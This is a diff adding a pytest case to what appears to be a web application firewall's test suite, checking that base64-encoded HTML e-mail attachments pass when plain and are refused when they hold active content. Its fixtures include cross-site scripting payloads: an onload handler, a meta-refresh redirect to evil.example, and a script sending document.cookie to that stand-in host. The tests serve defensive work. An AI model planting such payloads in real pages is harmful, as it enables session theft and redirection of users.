@@ -306,3 +306,28 @@ def test_a_forged_header_block_after_a_token_is_refused_whatever_its_first_field
         "file", "server:\n  port: 8080\n  host: 0.0.0.0\nlogging:\n  level: info\n", "config.yaml"
     )
     assert not blocked(guard, headers, path="/api/v1/settings", body=body)
+
+
+@pytest.mark.parametrize(
+    ("document", "refused"),
+    [
+        ("<html><body><p>Invoice #123 &amp; receipt</p></body></html>", False),
+        (
+            '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Receipt</title></head>'
+            "<body>ok</body></html>",
+            False,
+        ),
+        ("<html><body onload=alert(document.domain)><p>Invoice</p></body></html>", True),
+        ('<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head></html>', True),
+        ("<html><body><script>fetch('//evil.example/?c='+document.cookie)</script></body></html>", True),
+    ],
+)
+def test_a_base64_html_document_is_data_but_what_runs_in_it_is_not(
+    guard: WAFGuard, document: str, refused: bool
+) -> None:
+    # An e-mail template or an attachment sent as base64: its skeleton is what an HTML document is
+    # made of, as namespaces are an XML document's; a script, a handler or http-equiv keep it refused.
+    body = json.dumps(
+        {"attachments": [{"name": "receipt.html", "content": base64.b64encode(document.encode()).decode()}]}
+    )
+    assert blocked(guard, [("content-type", "application/json")], path="/api/v1/mail", body=body) is refused
